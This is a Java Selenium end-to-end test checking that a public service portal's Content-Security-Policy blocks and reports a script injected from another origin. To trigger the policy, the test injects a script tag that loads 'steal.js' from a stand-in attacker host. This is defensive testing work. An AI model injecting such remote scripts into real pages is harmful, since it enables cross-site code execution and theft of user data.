package vn.motcua.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebDriver;
import vn.motcua.e2e.pages.HomePage;
import vn.motcua.e2e.support.BrowserExtension;
import vn.motcua.e2e.support.Browsers;
import vn.motcua.e2e.support.MotCuaServer;
import vn.motcua.e2e.support.SharedPortal;

/**
 * The portal's Content-Security-Policy is enforced by a real browser: a script from another origin
 * injected into a page is blocked and reported. Every other journey fails if its pages (login,
 * filing wizard, staff task page, …) trigger a report, so they all run under the policy.
 */
@ExtendWith({SharedPortal.class, BrowserExtension.class})
class ContentSecurityPolicyJourneyTest {

    @Test
    void aScriptFromAnotherOriginIsBlockedOnThePortal(MotCuaServer portal, WebDriver browser) {
        HomePage.open(browser, portal.baseUrl());
        assertThat(Browsers.contentSecurityPolicyViolations(browser)).as("the home page itself").isEmpty();
        ((JavascriptExecutor) browser).executeScript(
                "var s = document.createElement('script'); s.src = 'http://evil.example/steal.js'; document.head.appendChild(s);");
        List<String> reported = new ArrayList<>();
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
            reported.addAll(Browsers.contentSecurityPolicyViolations(browser));
            assertThat(reported).anySatisfy(message -> assertThat(message).contains("evil.example"));
        });
    }
}
